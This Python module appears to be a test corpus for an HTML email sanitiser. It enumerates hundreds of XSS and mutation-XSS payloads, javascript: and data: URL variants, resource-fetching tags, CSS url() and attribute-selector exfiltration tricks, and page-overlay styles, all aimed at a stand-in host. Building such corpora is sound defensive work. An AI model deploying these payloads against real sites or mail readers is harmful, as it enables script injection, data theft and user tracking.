# ruff: noqa: E501  (attacks and answers stand on one line each)
"""Mail that attacks its reader: each entry is HTML that would run a script, fetch an address or leave its frame.

``HIT`` stands for an address that must never be asked for, ``RAN`` for a script that must never run.
"""

from __future__ import annotations

from typing import Final

HIT: Final = "http://hit.invalid/"
RAN: Final = "document.title='ran';new Image().src='http://hit.invalid/ran';top.postMessage('ran','*')"


def _scripts() -> dict[str, str]:
    return {
        "script": f"<script>{RAN}</script>",
        "script src": f'<script src="{HIT}"></script>',
        "script upper": f"<ScRiPt>{RAN}</sCrIpT>",
        "script slash": f"<script/x>{RAN}</script/y>",
        "script unclosed": f"<script>{RAN}",
        "script split": f"<scr<script>ipt>{RAN}</scr</script>ipt>",
        "script in comment": f"<!--><script>{RAN}</script>-->",
        "script in bogus comment": f"<!-x><script>{RAN}</script>",
        "script in odd comment end": f"<!-- --!><script>{RAN}</script> -->",
        "script in title": f"<title><script>{RAN}</script></title></title><script>{RAN}</script>",
        "script in textarea": f'<textarea><script>{RAN}</script></textarea><img src=x onerror="{RAN}">',
        "script in noscript": f'<noscript><p title="</noscript><img src=x onerror={RAN}>">',
        "script in xmp": f'<xmp><p title="</xmp><script>{RAN}</script>">',
        "script in noembed": f'<noembed><p title="</noembed><script>{RAN}</script>">',
        "script in iframe text": f'<iframe><p title="</iframe><script>{RAN}</script>">',
        "script in plaintext": f"<plaintext><script>{RAN}</script>",
        "script in attribute": f'<a title="</a><script>{RAN}</script>">x</a>',
        "script double escaped": f'<script><!--<script></script><img src=x onerror="{RAN}">--></script>',
        "script in cdata": f"<![CDATA[<script>{RAN}</script>]]>",
        "script in processing": f"<?x ><script>{RAN}</script>",
        "script null": f"<scr\0ipt>{RAN}</scr\0ipt>",
        "script type": f'<script type="module">{RAN}</script>',
        "template": f"<template><script>{RAN}</script></template><template shadowrootmode=open><script>{RAN}</script></template>",
        "import map": f'<script type="importmap">{{"imports":{{"x":"{HIT}"}}}}</script><script type="module">import "x"</script>',
    }


def _handlers() -> dict[str, str]:
    events = {
        "img": "onerror onload", "body": "onload onpageshow onfocus", "svg": "onload", "video": "oncanplay onerror",
        "details open": "ontoggle", "input autofocus": "onfocus", "marquee": "onstart", "iframe": "onload",
        "audio src=x": "onerror", "style": "onload", "link rel=stylesheet": "onerror", "object data=x": "onerror",
        "div contenteditable autofocus tabindex=1": "onfocus", "xss style='animation:x 1s'": "onanimationstart",
        "table background=x": "onerror", "p hidden=until-found": "onbeforematch", "dialog open": "onclose",
        "select autofocus": "onfocus", "button popovertarget=x autofocus": "onfocus",
    }  # fmt: skip
    made = {}
    for element, names in events.items():
        for name in names.split():
            made[f"{element} {name}"] = f'<{element} src=x {name}="{RAN}">x'
    made["handler slash"] = f"<img/src=x/onerror={RAN}>"
    made["handler newline"] = f"<img\nsrc=x\nonerror\n=\n'{RAN}'>"
    made["handler form feed"] = f"<img\x0csrc=x\x0conerror={RAN.split(';')[0]}>"
    made["handler upper"] = f'<IMG SRC=x OnErRoR="{RAN}">'
    made["handler backquote"] = f'<img src=`x` onerror="{RAN}" x=`>'
    made["handler quote trick"] = f'<img src="x" title="a"onerror="{RAN}">'
    made["handler open quote"] = f'<img src="x title=\'"onerror="{RAN}" \'>'
    made["handler entity"] = '<img src=x onerror="&#x64;ocument.title=&#39;ran&#39;">'
    made["handler equals"] = f'<img =x onerror="{RAN}" src=x>'
    made["handler tag in tag"] = f'<img <p onerror="{RAN}" src=x>'
    return made


def _addresses() -> dict[str, str]:
    forms = [
        f"javascript:{RAN}", f"JaVaScRiPt:{RAN}", f" javascript:{RAN}", f"java\tscript:{RAN}", f"java\nscript:{RAN}",
        f"java&#10;script:{RAN}", f"java&Tab;script:{RAN}", f"&#106;avascript:{RAN}", f"&#x6A&#x61vascript:{RAN}",
        f"\x01javascript:{RAN}", f"\xa0javascript:{RAN}", f"\u2028javascript:{RAN}", f"javascript&colon;{RAN}",
        "javascript:123", f"vbscript:{RAN}", f"data:text/html,<script>{RAN}</script>",
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "data:image/svg+xml,<svg onload=alert(1)>",
        f"DATA:text/html,<script>{RAN}</script>", f"feed:javascript:{RAN}", f"view-source:javascript:{RAN}",
        f"jar:javascript:{RAN}!/", "blob:null/x", "file:///etc/passwd", "about:blank", "filesystem:x", "chrome://x",
        f"livescript:{RAN}", f"mocha:{RAN}", "intent://x#Intent;end", "ms-msdt:/id", "//hit.invalid/", "\\\\hit.invalid\\x",
        "/logout", "?remote=1", "x", "", "https:", "http:/x", "https:\\\\hit.invalid",
    ]  # fmt: skip
    made = {}
    for number, form in enumerate(forms):
        made[f"link {number} {form[:12]!r}"] = f'<a href="{form}" autofocus>x</a>'
        made[f"picture {number} {form[:12]!r}"] = f'<img src="{form}">'
    made["link base"] = f'<base href="javascript:/"><a href="x">x</a><base href="{HIT}"><img src="x.png">'
    made["link area"] = f'<map name=m><area href="javascript:{RAN}" shape=default></map><img usemap=#m src=x>'
    made["link ping"] = f'<a href="https://shop.example/" ping="{HIT}">x</a>'
    made["link form"] = f'<form action="javascript:{RAN}"><input type=submit formaction="javascript:{RAN}">'
    made["link button"] = f'<form id=f></form><button form=f formaction="javascript:{RAN}">x'
    made["link xlink"] = f'<svg><a xlink:href="javascript:{RAN}"><text y=20>x</text></a></svg>'
    made["link attribution"] = f'<a href="https://shop.example/" attributionsrc="{HIT}">x</a>'
    return made


def _fetches() -> dict[str, str]:
    elements = {
        "img": f'<img src="{HIT}">', "img srcset": f'<img srcset="{HIT} 1x, {HIT} 2x">', "img lowsrc": f'<img lowsrc="{HIT}" dynsrc="{HIT}">',
        "image": f'<image src="{HIT}">', "picture": f'<picture><source srcset="{HIT}"><img></picture>',
        "video": f'<video src="{HIT}" poster="{HIT}" autoplay></video>', "audio": f'<audio src="{HIT}" autoplay></audio>',
        "source": f'<video autoplay><source src="{HIT}"></video>', "track": f'<video><track default src="{HIT}"></video>',
        "embed": f'<embed src="{HIT}">', "object": f'<object data="{HIT}"></object>',
        "object codebase": f'<object classid="x" codebase="{HIT}"><param name=src value="{HIT}"></object>',
        "applet": f'<applet code=x archive="{HIT}" codebase="{HIT}"></applet>',
        "iframe": f'<iframe src="{HIT}"></iframe>', "iframe srcdoc": f'<iframe srcdoc="<img src={HIT}><script>{RAN}</script>"></iframe>',
        "frame": f'<frameset><frame src="{HIT}"></frameset>', "portal": f'<portal src="{HIT}"></portal>',
        "fenced": f"<fencedframe src='{HIT}'></fencedframe>",
        "link": f'<link rel=stylesheet href="{HIT}">', "link icon": f'<link rel=icon href="{HIT}">',
        "link preload": f'<link rel=preload as=image href="{HIT}"><link rel=modulepreload href="{HIT}">',
        "link prefetch": f'<link rel=prefetch href="{HIT}"><link rel=prerender href="{HIT}">',
        "link preconnect": f'<link rel=preconnect href="{HIT}"><link rel=dns-prefetch href="{HIT}">',
        "link manifest": f'<link rel=manifest href="{HIT}">', "link import": f'<link rel=import href="{HIT}">',
        "body background": f'<body background="{HIT}">', "table background": f'<table background="{HIT}"><td background="{HIT}">x',
        "input image": f'<input type=image src="{HIT}">', "html manifest": f'<html manifest="{HIT}">',
        "bgsound": f'<bgsound src="{HIT}">', "xml": f'<xml src="{HIT}">', "layer": f'<layer src="{HIT}"></layer>',
        "meta refresh": f'<meta http-equiv=refresh content="0;url={HIT}">',
        "meta refresh script": f'<meta http-equiv=refresh content="0;url=javascript:{RAN}">',
        "meta csp": f"<meta http-equiv=Content-Security-Policy content=\"img-src *; report-uri {HIT}\"><img src='{HIT}'>",
        "meta cookie": '<meta http-equiv="Set-Cookie" content="postern=x">',
        "meta client hints": f'<meta http-equiv="Accept-CH" content="Width"><img src="{HIT}">',
        "form": f'<form action="{HIT}" method=post><input name=password autofocus></form>',
        "form dangling": f"<form action='{HIT}'><textarea name=x>", "img dangling": f"<img src='{HIT}?",
        "base target": f'<base target="_top" href="{HIT}"><img src=x>', "isindex": f'<isindex action="{HIT}">',
        "keygen": "<keygen autofocus>", "dialog": "<dialog open style='position:fixed;inset:0'>x</dialog>",
        "speculation": f'<script type="speculationrules">{{"prefetch":[{{"source":"list","urls":["{HIT}"]}}]}}</script>',
    }  # fmt: skip
    return {f"fetch {name}": html for name, html in elements.items()}


def _styles() -> dict[str, str]:
    values = [
        f"background:url({HIT})", f"background:url('{HIT}')", f"background:URL({HIT})", f"background:u\\72l({HIT})",
        f"background:\\75 rl({HIT})", f"background:/**/url({HIT})", f"background:u/**/rl({HIT})", f"background:url( {HIT}",
        f"background-image:image-set('{HIT}' 1x)", f"background:-webkit-image-set(url({HIT}) 1x)", f"cursor:url({HIT}),auto",
        f"list-style:url({HIT})", f"list-style-image:url({HIT})", f"content:url({HIT})", f"border-image:url({HIT}) 30",
        f"mask:url({HIT})", f"-webkit-mask-image:url({HIT})", f"filter:url({HIT}#x)", f"clip-path:url({HIT}#x)",
        f"shape-outside:url({HIT})", f"font:1px url({HIT})", f"color:var(--x,url({HIT}))", f"--x:url({HIT});background:var(--x)",
        f"background:cross-fade(url({HIT}),url({HIT}),50%)", f"background:paint(x);src:url({HIT})", f"behavior:url({HIT})",
        f"-moz-binding:url({HIT}#x)", "width:expression(alert(1))", "width:e\\78pression(alert(1))", f"@import '{HIT}'",
        f"background:url(javascript:{RAN})", "position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999;background:#fff",
        "position:fixed !important;inset:0", "position:absolute;top:-1000px", "margin:-9999px", "margin-top:-100vh;height:200vh",
        "transform:scale(1000)", "width:99999999px;height:1e9px", "animation:x 1s infinite", "display:none;}body{background:red",
        "color:red;}</style><script>alert(1)</script>", "((((((((((((((((((((((((", "{{{{{{{{", "'\"", "a:b;c", ";;;;", "/*",
        "font-family:'</style><img src=x onerror=alert(1)>'", "background:attr(data-x url)", "width:calc(1px + env(x))",
        "background:element(#x)", "pointer-events:none", "-webkit-user-modify:read-write", "content:'</style>'",
    ]  # fmt: skip
    made = {}
    for number, value in enumerate(values):
        quoted = value.replace('"', "&quot;")
        made[f"style {number} {value[:16]!r}"] = f'<div style="{quoted}">x</div>'
        made[f"sheet {number} {value[:16]!r}"] = f"<style>div{{{value}}}</style><div>x</div>"
    made["sheet import"] = (
        f"<style>@import url({HIT});@import '{HIT}' screen;@charset 'x';@namespace url({HIT});</style>"
    )
    made["sheet font"] = f"<style>@font-face{{font-family:x;src:url({HIT})}}*{{font-family:x}}</style>x"
    made["sheet exfiltration"] = (
        f"<style>input[value^=a]{{background:url({HIT})}}a[href]::before{{content:url({HIT})}}</style><input value=ab>"
    )
    made["sheet supports"] = (
        f"<style>@supports (display:block){{div{{background:url({HIT})}}}}@layer x{{div{{background:url({HIT})}}}}</style>"
    )
    made["sheet nested"] = (
        f"<style>div{{&:hover{{background:url({HIT})}}}}@media screen{{@media screen{{div{{background:url({HIT})}}}}}}</style>"
    )
    made["sheet end in string"] = f"<style>a{{content:'</style><img src=x onerror=\"{RAN}\">'}}</style>"
    made["sheet comment"] = f'<style><!--</style><img src=x onerror="{RAN}">--></style>'
    made["sheet keyframes"] = f"<style>@keyframes x{{from{{background:url({HIT})}}}}div{{animation:x 1s}}</style><div>x"
    made["sheet property"] = (
        f"<style>@property --x{{syntax:'<url>';inherits:false;initial-value:url({HIT})}}div{{background:var(--x)}}</style>"
    )
    made["sheet root"] = "<style>:root{position:fixed}html{display:none}*{position:fixed!important}</style>x"
    made["sheet select"] = f'<select><style></select><img src=x onerror="{RAN}"></style>'
    return made


def _foreign() -> dict[str, str]:
    """SVG, MathML, and markup that becomes another when it is written out and read again."""
    return {
        "svg script": f"<svg><script>{RAN}</script></svg>", "svg href": f'<svg><script href="{HIT}"/></svg>',
        "svg animate": f'<svg><a><animate attributeName=href values="javascript:{RAN}"/><text y=20>x</text></a></svg>',
        "svg animate by": f'<svg><a href="#"><animate attributeName=href from="#" by="javascript:{RAN}"/></a></svg>',
        "svg set": f'<svg><set attributeName=onmouseover to="{RAN}"/></svg>',
        "svg use": f'<svg><use href="{HIT}#x"/><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>',
        "svg image": f'<svg><image href="{HIT}" xlink:href="{HIT}"/></svg>', "svg feimage": f'<svg><filter><feImage href="{HIT}"/></filter></svg>',
        "svg foreign": f'<svg><foreignObject><img src=x onerror="{RAN}"></foreignObject></svg>',
        "svg style": f'<svg><style><img src=x onerror="{RAN}"></style></svg>',
        "svg title": f'<svg><title><img src=x onerror="{RAN}"></title></svg>', "svg desc": f'<svg><desc><style><img title="</style><img src=x onerror={RAN}>">',
        "svg cdata": f'<svg><![CDATA[><img src=x onerror="{RAN}">]]></svg>', "svg handler": f'<svg><discard onbegin="{RAN}"/><g onload="{RAN}"/></svg>',
        "svg entity": "<svg><script>&#100;ocument.title='ran'</script></svg>",
        "math href": f'<math href="javascript:{RAN}">x</math>', "math xlink": f'<math><mi xlink:href="javascript:{RAN}">x</mi></math>',
        "math action": f'<math><maction actiontype="statusline#{HIT}" xlink:href="javascript:{RAN}">x</maction></math>',
        "math annotation": f'<math><annotation-xml encoding="text/html"><img src=x onerror="{RAN}"></annotation-xml></math>',
        "mxss math style": f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror={RAN}&gt;">',
        "mxss svg p": f'<svg></p><style><a id="</style><img src=x onerror={RAN}>">',
        "mxss form": f'<form><math><mtext></form><form><mglyph><style></math><img src=x onerror="{RAN}">',
        "mxss noscript": f'<noscript><style></noscript><img src=x onerror="{RAN}">',
        "mxss table": f'<table><svg><desc><td><style><img title="</style><img src=x onerror={RAN}>">',
        "mxss template": f'<svg><template><style><img title="</style><img src=x onerror={RAN}>">',
        "mxss select": f'<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror={RAN}>">',
        "mxss xmp": f'<svg><xmp><img title="</xmp><img src=x onerror={RAN}>">', "mxss textarea": f'<textarea><img title="</textarea><img src=x onerror={RAN}>">',
        "mxss comment": f'<svg><!--</svg><img title="--><img src=x onerror={RAN}>">', "mxss p title": f'<p title="--><img src=x onerror={RAN}>"><!--',
        "mxss nested a": f'<a><table><a href="https://x.example/"><td><a title="<img src=x onerror={RAN}>">',
        "mxss font": f'<math><font color><style><img title="</style><img src=x onerror={RAN}>">',
        "mxss annotation": f'<math><annotation-xml encoding="text/html"><style><img title="</style><img src=x onerror={RAN}>">',
        "mxss attribute": f'<img alt="``onerror={RAN}">', "mxss entity": f'<p title="&lt;img src=x onerror={RAN}&gt;">&lt;img src=x onerror={RAN}&gt;',
        "mxss double": f"&amp;lt;script&amp;gt;{RAN}&amp;lt;/script&amp;gt;", "mxss li": f'<svg><li><style><img title="</style><script>{RAN}</script>">',
        "xml namespace": f'<html xmlns:x="http://www.w3.org/1999/xhtml"><x:script>{RAN}</x:script>',
        "vml": f'<v:rect style="behavior:url(#default#VML)" onload="{RAN}"><v:imagedata src="{HIT}"/></v:rect>',
        "conditional": f"<!--[if gte IE 4]><script>{RAN}</script><![endif]--><![if !IE]><script>{RAN}</script><![endif]>",
        "body twice": f'<body><body onload="{RAN}"><html onfocus="{RAN}">', "custom element": f'<x-y onclick="{RAN}" is="x" slot="y">x</x-y>',
        "broken utf": f'<img src=x \ud800 onerror="{RAN}">', "fullwidth": f"＜script＞{RAN}＜/script＞", "kelvin": f"<\u212amarquee onstart={RAN}>",
        "long s": f"<\u017fcript>{RAN}</\u017fcript>", "dotless": f"<\u0131mg src=x onerror={RAN}><scr\u0131pt>{RAN}</scr\u0131pt>",
    }  # fmt: skip


def _deeper() -> dict[str, str]:
    """Foreign content in foreign content, and addresses spelt as only a tokeniser of CSS reads them."""
    img = f"<img src=x onerror={RAN}>"
    shells = {
        "svg math": "<svg><math><annotation-xml encoding=text/html><svg><style>{}", "math svg": "<math><mtext><svg><desc><math><mi><style>{}", "svg foreign table": "<svg><foreignObject><table><svg><style>{}",
        "template in svg": "<svg><template><math><style>{}</style>", "template in template": "<template><template><style></template></style>{}</template>", "shadow": "<div><template shadowrootmode=open shadowrootclonable><slot>{}</slot></template></div>",
        "noscript in svg": "<svg><noscript><style></noscript>{}", "noscript in title": "<noscript><title></noscript>{}</title>", "style in option": "<select><option><style></option></select>{}</style>", "style in math": "<math><style><a title='</style>{}'>",
        "comment in style": "<svg><style><!--</style>{}--></style>", "cdata in math": "<math><![CDATA[</math>{}]]>", "cdata in html": "<div><![CDATA[>{}]]></div>", "plaintext in svg": "<svg><plaintext></svg>{}", "frameset": "<frameset><noframes><style></noframes>{}</style>",
        "table in p in button": "<button><p><table><button>{}", "form in form": "<form><div></form><form><svg><style>{}", "mglyph": "<math><mi><mglyph><svg><mtext><textarea><path title='</textarea>{}'>", "malignmark": "<math><mo><malignmark><style><!--</style>{}-->",
        "a in a": "<a href=x><svg><a><style>{}", "nobr": "<nobr><table><nobr><svg><style>{}", "ruby": "<ruby><rtc><rt><svg><title>{}", "search": "<search><selectedcontent>{}", "br end": "</br><svg></br><style>{}", "p end": "<math></p><style>{}",
        "font color": "<svg><font face=x><style>{}", "xmp in select": "<select><xmp><script></select>{}</xmp>", "noembed in svg": "<svg><noembed><g title='</noembed>{}'>", "annotation xhtml": "<math><annotation-xml encoding=application/xhtml+xml><p><style>{}",
        "512 deep": "<b>" * 512 + "<table><svg><style>{}", "body in svg": "<svg><body><style>{}", "image": "<svg><image><style>{}", "object": "<object><svg><style></object>{}", "customised": "<p is=x-y><svg><style>{}", "end in attribute": "<svg><p id='</svg>{}'>",
        "quote of entity": "<p title='&#39;>{}'>", "tag of tab": "<svg\t/\n/>{}", "utf-16 tail": "<p>\ufffe{}", "processing": "<?xml-stylesheet href='" + HIT + "'?>{}", "doctype": "<!DOCTYPE html [<!ENTITY x '{}'>]>&x;", "dialog": "<dialog open><form method=dialog>{}",
    }  # fmt: skip
    spelt = [
        f"\\75\\72\\6c({HIT})", f"\\000075rl({HIT})", f"\\75\trl({HIT})", f"u\\\nrl({HIT})", f"uRl(\t'{HIT}'\n)", "url(\\68ttp\\3a//hit.invalid/)", f"url(\"\\\n{HIT}\")", f"src('{HIT}')", f"url({HIT} var(--x))",
        f"image('{HIT}')", f"image-set(url({HIT}) type('image/png') 1x)", f"-moz-element(#x),url({HIT})", f"cross-fade(20% url({HIT}))", f"var(--a,var(--b,url({HIT})))", f"env(x,url({HIT}))", f"if(style(--x):url({HIT}))", f"attr(x type(<url>),url({HIT}))",
        f"light-dark(url({HIT}),red)", "url(//hit.invalid/)", "url(\\/\\/hit.invalid)", "url(http:hit.invalid)", f"url-prefix({HIT})", f"url({HIT}", f"'x'url({HIT})", f"/*'*/url({HIT})/*'*/", f"red}}*{{background:url({HIT})", f"{{}};background:url({HIT})", f"url({HIT})\\9",
    ]  # fmt: skip
    made = {f"deeper {name}": shell.replace("{}", img) for name, shell in shells.items()}
    for number, value in enumerate(spelt):
        made[f"spelt {number}"] = f"<p style=\"background:{value.replace(chr(34), '&quot;')}\">x</p><style>p{{background:{value}}}</style>"
    sheets = [
        f"@import url({HIT})", f"@\\69mport '{HIT}';", f"@IMPORT\t\"{HIT}\" layer(x) supports(display:block) print;", f"@import/**/url({HIT});", f"<!--@import '{HIT}';-->", f"}}@import '{HIT}';", f"@charset 'utf-7';@import '{HIT}';", f"@media all{{@import '{HIT}';}}",
        f"@font-face{{font-family:x;src:local(x),url({HIT})format('woff2')}}p{{font-family:x}}", f"@container (width>0){{p{{background:url({HIT})}}}}", f"@scope(p){{:scope{{background:url({HIT})}}}}", f"@starting-style{{p{{background:url({HIT})}}}}", f"@counter-style x{{symbols:url({HIT})}}li{{list-style:x}}",
        f"@page{{background:url({HIT})}}", f"@layer x{{@font-face{{font-family:x;src:url({HIT})}}}}p{{font-family:x}}", f"@view-transition{{navigation:auto}}@position-try --x{{inset:0}}p{{background:url({HIT})}}", f"p::after{{content:'x'/url({HIT});content:url({HIT})}}", f":has(p){{background:url({HIT})}}",
        f"p{{--x:url({HIT});& b{{background:var(--x)}}background:var(--x)}}", f"a[title='\\']{{}}{{background:url({HIT})}}", "p{position:fixed;inset:0;z-index:9}", "p{background:red;\\70osition:fixed}", "p{zoom:900}p{scale:900}p{translate:-99vw}p{offset-path:path('M0 0')}", "p{anchor-name:--x;position-anchor:--x;inset:0}",
    ]  # fmt: skip
    for number, text in enumerate(sheets):
        made[f"deeper sheet {number}"] = f"<style>{text}</style><p>x<b>y</b></p><ul><li>z</ul>"
    for number, name in enumerate(["imagesrcset", "srcset", "src", "poster", "background", "data", "href", "xlink:href", "icon", "profile", "longdesc", "usemap", "cite", "classid", "dynsrc", "content"]):
        made[f"attribute {number}"] = f'<link rel=preload as=image {name}="{HIT} 1x"><img {name}="{HIT} 1x"><blockquote {name}="{HIT}">x</blockquote><object {name}="{HIT}"></object>'
    return made


ATTACKS: Final[dict[str, str]] = {
    **_scripts(), **_handlers(), **_addresses(), **_fetches(), **_styles(), **_foreign(), **_deeper(),
}  # fmt: skip
